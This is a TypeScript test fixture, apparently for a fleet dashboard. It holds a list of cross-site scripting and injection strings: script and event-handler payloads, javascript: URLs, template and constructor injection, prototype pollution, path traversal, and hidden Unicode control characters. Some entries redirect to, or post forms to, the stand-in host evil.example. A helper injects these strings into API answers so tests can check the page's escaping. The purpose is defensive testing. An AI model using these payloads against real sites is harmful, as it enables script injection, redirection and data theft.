/**
 * Texts that try to become something else than text: markup, handlers, addresses, templates, style, keys of every object, what nobody
 * sees, and words without an end. What runs calls `__xss`; each element of them has the attribute `data-xss`.
 */
export const HOSTILE: readonly string[] = [
  `<script data-xss>__xss('script')</script>`,
  `<img data-xss src=x onerror=__xss('img')>`,
  `"><svg data-xss onload=__xss('svg')></svg>`,
  `'><iframe data-xss srcdoc="<script>parent.__xss('frame')</script>"></iframe>`,
  `" onmouseover="__xss('over')" onfocus="__xss('focus')" autofocus x="`,
  `' onfocus='__xss("focus")' tabindex='0' data-xss='`,
  `javascript:__xss('address')`,
  ` JaVaScRiPt:__xss('spaced address')`,
  `data:text/html,<script data-xss>__xss('data')</script>`,
  `[a link](javascript:__xss('link'))`,
  `![a picture](javascript:__xss('picture'))`,
  '${__xss("template")}',
  '`${__xss("template")}`',
  `{{constructor.constructor('__xss("constructor")')()}}`,
  '<${Card} data-xss title="x"><//>',
  `</pre></textarea></title></noscript><script data-xss>__xss('closed')</script>`,
  `</style><style data-xss>body { display: none }</style>`,
  `<base data-xss href="http://evil.example/">`,
  `<meta data-xss http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<a data-xss href="javascript:__xss('a')">here</a>`,
  `<math data-xss><mtext><style><img src=x onerror=__xss('math')></style></mtext></math>`,
  `<!--><img data-xss src=x onerror=__xss('comment')>-->`,
  `<form data-xss action="http://evil.example/"><input name=attributes></form>`,
  `&lt;script&gt; &#60;img src=x onerror=__xss('entity')&#62; &amp;`,
  '\u202Egnp.exe\u202C \u200B\u200D\uFEFF\u2066x\u2069 \u0007\u001B[31m',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
  '../../api/fleet/halt?x=%00&y=<b data-xss>#z',
  'W'.repeat(300),
];

/** All of them in one text, those first that only work at the beginning. */
export const ALL_HOSTILE = [...HOSTILE.filter((text) => text.startsWith('javascript')), ...HOSTILE].join('\n');

/** Words of the fleet's own, such as states and spans; the texts of a test that poisons answers must not look like one. */
const OWN_WORD = /^(?:[a-z][a-z-]*|\d+[hd])$/;
const INSTANT = /^\d{4}-\d{2}-\d{2}/;
/** Fields that hold a table by names of others. */
const BY_NAME = new Set(['dollars']);

/**
 * An answer of the dashboard in which each text is a hostile one, and each name of others by which something is listed.
 * @param next gives the next hostile text
 */
export function poison(answer: unknown, next: () => string, field = ''): unknown {
  if (typeof answer === 'string') return OWN_WORD.test(answer) || INSTANT.test(answer) ? answer : next();
  if (Array.isArray(answer)) return answer.map((one) => poison(one, next));
  if (typeof answer !== 'object' || answer === null) return answer;
  const toKey = (key: string): string => (BY_NAME.has(field) ? `${key} ${HOSTILE[1]}` : key);
  return Object.fromEntries(Object.entries(answer).map(([key, value]) => [toKey(key), poison(value, next, key)]));
}

/** Gives one hostile text after the other. */
export function eachHostile(): () => string {
  let i = 0;
  return () => HOSTILE[i++ % HOSTILE.length] ?? '';
}
